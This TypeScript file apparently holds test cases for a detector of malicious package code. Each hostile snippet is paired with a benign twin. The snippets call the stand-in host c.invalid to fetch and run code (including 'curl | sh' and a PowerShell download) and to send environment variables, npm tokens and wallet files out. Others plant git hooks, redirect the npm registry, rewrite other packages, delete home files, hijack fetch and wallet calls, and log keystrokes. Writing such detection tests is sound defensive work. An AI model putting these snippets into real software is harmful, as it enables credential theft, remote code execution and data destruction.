import { testDeeds, type Deed } from './deeds.ts'

const DEEDS: readonly Deed[] = [
  {
    name: 'commands that come over a web socket',
    check: 'download-and-execute',
    code: `const ws = new WebSocket('wss://c.invalid/'); ws.onmessage = (m) => require('child_process').exec(m.data)`,
    twin: `const ws = new WebSocket('wss://c.invalid/'); ws.onmessage = (m) => console.log(m.data)`,
  },
  {
    name: 'code in the error of a client',
    check: 'download-and-execute',
    code: `require('axios').get('https://c.invalid/').catch((e) => new (Function.constructor)('require', e.response.data.t)(require))`,
    twin: `require('axios').get('https://c.invalid/').catch((e) => console.log(e.message))`,
  },
  {
    name: 'code in an error that is caught',
    check: 'download-and-execute',
    code: `(async () => { try { await require('axios').get('https://c.invalid/') } catch (e) { eval(e.response.data) } })()`,
    twin: `(async () => { try { await require('axios').get('https://c.invalid/') } catch (e) { throw e } })()`,
  },
  {
    name: 'code without blanks that is given to node',
    check: 'secrets-exfiltration',
    code: `require('child_process').execFile('node', ['-e', "require('https').get('https://c.invalid/'+JSON.stringify(process.env))"])`,
    twin: `require('child_process').execFile('node', ['-e', "console.log(require('os').EOL.length)"])`,
    moments: ['install'],
  },
  {
    name: 'code in a file of data',
    check: 'secrets-exfiltration',
    code: `const theme = JSON.parse(require('fs').readFileSync(__dirname + '/theme.json', 'utf8')); new Function('process', theme.init)(process)`,
    twin: `const theme = JSON.parse(require('fs').readFileSync(__dirname + '/theme.json', 'utf8')); console.log(theme.init)`,
    files: {
      'theme.json': `{"dark":"#000","init":"fetch('https://c.invalid/', { body: JSON.stringify(process.env) })"}`,
    },
  },
  {
    name: 'a program as text that is written and started',
    check: 'secrets-exfiltration',
    code: `require('fs').writeFileSync('/tmp/q.js', 'fetch("https://c.invalid/", { body: JSON.stringify(process.env) })')
      require('child_process').execSync('node /tmp/q.js')`,
    twin: `require('fs').writeFileSync('/tmp/q.js', 'console.log(1)'); require('child_process').execSync('node /tmp/q.js')`,
    moments: ['install'],
  },
  {
    name: 'a script of a shell as text that is written and started',
    check: 'download-and-execute',
    code: `const os = require('os'), fs = require('fs'), p = require('path').join(os.tmpdir(), 'q')
      fs.writeFileSync(p, '#!/bin/sh\\ncurl -s https://c.invalid/i | sh\\n'); require('child_process').spawn(p)`,
    twin: `const os = require('os'), fs = require('fs'), p = require('path').join(os.tmpdir(), 'q')
      fs.writeFileSync(p, '#!/bin/sh\\necho done\\n'); require('child_process').spawn(p)`,
  },
  {
    name: 'a module as text that is written and loaded',
    check: 'secrets-exfiltration',
    code: `const p = require('os').tmpdir() + '/q.js'
      require('fs').writeFileSync(p, 'fetch("https://c.invalid/", { body: JSON.stringify(process.env) })'); require(p)`,
    twin: `const p = require('os').tmpdir() + '/q.js'; require('fs').writeFileSync(p, 'module.exports = 1'); require(p)`,
  },
  {
    name: 'code that was packed, word by word',
    check: 'decode-and-execute',
    code: `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}('3 2=1(\\'0\\');2.4(\\'5\\')',6,6,'child_process|require|x|const|exec|id'.split('|'),0,{}))`,
    twin: `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}('2 1=3;0.4(1)',5,5,'console|x|const|100|log'.split('|'),0,{}))`,
  },
  {
    name: 'a program that is fetched, put into the folder of what is thrown away, and started',
    check: 'download-and-execute',
    code: `const p = require('path').join(require('os').tmpdir(), 'svc')
      fetch('https://c.invalid/b').then((r) => r.arrayBuffer()).then((data) => {
        const bytes = Buffer.from(data); require('fs').writeFileSync(p, bytes); require('fs').chmodSync(p, 0o755)
        require('child_process').spawn(p, [], { detached: true }).unref() })`,
    twin: `const p = require('path').join(require('os').tmpdir(), 'svc')
      fetch('https://c.invalid/b').then((r) => r.arrayBuffer()).then((data) => {
        const bytes = Buffer.from(data), sum = require('crypto').createHash('sha256').update(bytes).digest('hex')
        if (sum !== '${'5f'.repeat(32)}') throw new Error('it is another one')
        require('fs').writeFileSync(p, bytes); require('child_process').spawn(p, [], { stdio: 'inherit' }) })`,
  },
  {
    name: 'a program that is piped into a file and started',
    check: 'download-and-execute',
    code: `const fs = require('fs'), p = require('os').tmpdir() + '/upd.exe', out = fs.createWriteStream(p)
      require('https').get('https://c.invalid/upd.exe', (res) => res.pipe(out)); out.on('finish', () => require('child_process').execFile(p))`,
    twin: `const fs = require('fs'), p = require('os').tmpdir() + '/upd.exe', out = fs.createWriteStream(p), hash = require('crypto').createHash('sha256')
      require('https').get('https://c.invalid/upd.exe', (res) => { res.pipe(hash); res.pipe(out) })
      out.on('finish', () => { if (hash.digest('hex') === require('./sums.json').upd) require('child_process').execFile(p) })`,
    files: { 'sums.json': `{"upd":"${'5f'.repeat(32)}"}` },
  },
  {
    name: 'bytes that native functions put where they are run',
    check: 'decode-and-execute',
    code: `const k = require('koffi').load('kernel32.dll'), alloc = k.func('void* VirtualAlloc(void*, size_t, uint32, uint32)')
      alloc(null, 64, 0x3000, 0x40)`,
    twin: `const m = require('koffi').load('libm.so.6'); console.log(m.func('double cos(double)')(0))`,
  },
  {
    name: 'a hook of git that fetches',
    check: 'persistence',
    code: `const fs = require('fs'), p = require('path').join(process.env.INIT_CWD || process.cwd(), '.git/hooks/pre-commit')
      fs.writeFileSync(p, '#!/bin/sh\\ncurl -s https://c.invalid/i | sh\\n')`,
  },
  {
    name: 'another registry',
    check: 'persistence',
    code: `require('fs').appendFileSync(require('os').homedir() + '/.npmrc', '\\nregistry=https://c.invalid/\\n')`,
    twin: `require('fs').appendFileSync(require('os').homedir() + '/.npmrc', '\\nfund=false\\n')`,
  },
  {
    name: 'the code of another package, by its place',
    check: 'persistence',
    code: `require('fs').appendFileSync(require('path').join(__dirname, '../ethers/lib/index.js'), 'fetch("https://c.invalid/")')`,
    twin: `require('fs').appendFileSync(require('path').join(__dirname, './dist/lib/index.js'), 'fetch("https://c.invalid/")')`,
  },
  {
    name: 'the code of another package, by its name',
    check: 'persistence',
    code: `const p = require.resolve('web3-core'); require('fs').writeFileSync(p, 'fetch("https://c.invalid/")')`,
    twin: `const p = require.resolve('./own.js'); require('fs').writeFileSync(p, 'exports.built = true')`,
    files: { 'own.js': '' },
  },
  {
    name: 'everything in the working directory, name by name',
    check: 'destruction',
    code: `const fs = require('fs'); for (const f of fs.readdirSync(process.cwd())) fs.rmSync(require('path').join(process.cwd(), f), { recursive: true })`,
    twin: `const fs = require('fs'); for (const f of fs.readdirSync('./build')) fs.rmSync(require('path').join('./build', f), { recursive: true })`,
  },
  {
    name: 'everything at home, file by file',
    check: 'destruction',
    code: `const fs = require('fs'), home = require('os').homedir(); fs.readdirSync(home).forEach((f) => fs.unlinkSync(require('path').join(home, f)))`,
    twin: `const fs = require('fs'), home = require('os').homedir() + '/.cache/sample'; fs.readdirSync(home).forEach((f) => fs.unlinkSync(require('path').join(home, f)))`,
  },
  {
    name: 'something in the place of fetch that tells somebody else',
    check: 'spying',
    code: `const real = globalThis.fetch; globalThis.fetch = (url, options) => { real('https://c.invalid/f', { body: JSON.stringify({ url, options }) }); return real(url, options) }`,
    twin: `const real = globalThis.fetch; globalThis.fetch = (url, options) => real(url, { ...options, keepalive: true })`,
  },
  {
    name: 'something in the place of a wallet that pays somebody else',
    check: 'spying',
    code: `const ask = window.ethereum.request; window.ethereum.request = (call) => { call.params[0].to = '0x0000000000000000000000000000000000001042'; return ask(call) }`,
    twin: `const ask = window.ethereum.request; exports.accounts = () => ask({ method: 'eth_accounts' })`,
  },
  {
    name: 'something in the place of the answers of a page that changes whom they name',
    check: 'spying',
    code: `const real = window.fetch; window.fetch = async (...a) => { const r = await real(...a), text = await r.text()
      return new Response(text.replace(/0x[a-fA-F0-9]{40}/g, '0x0000000000000000000000000000000000001042'), r) }`,
    twin: `if (!window.fetch) window.fetch = require('./polyfill.js').fetch`,
    files: { 'polyfill.js': 'exports.fetch = () => undefined' },
  },
  {
    name: 'a picture of the screen',
    check: 'spying',
    code: `require('screenshot-desktop')().then((image) => fetch('https://c.invalid/', { body: image }))`,
    twin: `require('screenshot-desktop')().then((image) => require('fs').writeFileSync('./screen.png', image))`,
  },
  {
    name: 'every key',
    check: 'spying',
    code: `const l = new (require('node-global-key-listener').GlobalKeyboardListener)(); l.addListener((e) => fetch('https://c.invalid/?' + e.name))`,
    twin: `const l = new (require('node-global-key-listener').GlobalKeyboardListener)(); l.addListener((e) => console.log(e.name))`,
  },
  {
    name: 'the memory of a build service',
    check: 'secrets-exfiltration',
    code: `const m = require('child_process').execSync('cat /proc/$(pgrep -f Runner.Worker)/mem | strings'); fetch('https://c.invalid/', { body: m })`,
    twin: `const m = require('child_process').execSync('cat /proc/meminfo'); fetch('https://c.invalid/', { body: m })`,
  },
  {
    name: 'the key of a service, to somebody else',
    check: 'secrets-exfiltration',
    code: `fetch('https://c.invalid/' + process.env.NPM_TOKEN)`,
    twin: `fetch('https://api.stripe.com/v1', { headers: { authorization: process.env.STRIPE_KEY } })`,
    moments: ['import'],
  },
  {
    name: 'a program of another language that it brings along',
    check: 'secrets-exfiltration',
    code: `require('child_process').spawn('pythonw', [__dirname + '/deps.pyw'], { detached: true })`,
    twin: `exports.run = () => require('child_process').spawn('pythonw', [__dirname + '/deps.pyw'])`,
    files: { 'deps.pyw': 'import os, requests\nrequests.post("https://c.invalid/", json=dict(os.environ))\n' },
    moments: ['import'],
  },
  {
    name: 'a batch file that it brings along',
    check: 'download-and-execute',
    code: `require('child_process').exec(__dirname + '/run.bat')`,
    twin: `exports.run = () => require('child_process').exec(__dirname + '/run.bat')`,
    files: {
      'run.bat':
        '@echo off\r\npowershell -c "iwr https://c.invalid/u.exe -OutFile %TEMP%\\u.exe; start %TEMP%\\u.exe"\r\n',
    },
    moments: ['import'],
  },
  {
    name: 'a native program that it brings along and leaves running',
    check: 'opaque-program',
    code: `require('child_process').spawn(__dirname + '/deps.bin', [], { detached: true }).unref()`,
    twin: `exports.run = () => require('child_process').spawn(__dirname + '/deps.bin', [], { detached: true })`,
    files: { 'deps.bin': '\x7fELF\x02\x01\x01' },
    moments: ['import'],
  },
  {
    name: 'a program that is not in the package',
    check: 'opaque-program',
    code: `require('child_process').exec('helper.exe')`,
    twin: `require('child_process').exec('taskkill.exe /im x'); exports.run = () => require('child_process').exec('helper.exe')`,
    moments: ['import'],
  },
  {
    name: 'a script that is not in the package',
    check: 'opaque-program',
    code: `require('child_process').spawn('cmd.exe', ['/c', 'start.bat'])`,
    twin: `require('child_process').spawn('cmd.exe', ['/c', 'dir'])`,
    moments: ['import'],
  },
  {
    name: 'a file that is fetched without a look at who sends it',
    check: 'download-and-execute',
    code: `process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0
      require('fs').writeFileSync(require('os').homedir() + '/.cache-x', require('sync-request')('GET', 'https://c.invalid/a').getBody())`,
    twin: `require('fs').writeFileSync(__dirname + '/words.txt', require('sync-request')('GET', 'https://c.invalid/a').getBody())`,
  },
  {
    name: 'a wallet as the attachment of a mail',
    check: 'secrets-exfiltration',
    code: `const file = require('path').join(require('os').homedir(), '.bitcoin/wallet.dat')
      require('nodemailer').createTransport({ host: 'm.invalid' }).sendMail({ to: 'a@b.invalid', attachments: [{ path: file }] })`,
    twin: `require('nodemailer').createTransport({ host: 'm.invalid' }).sendMail({ to: 'a@b.invalid', attachments: [{ path: './report.txt' }] })`,
  },
]

testDeeds(DEEDS)
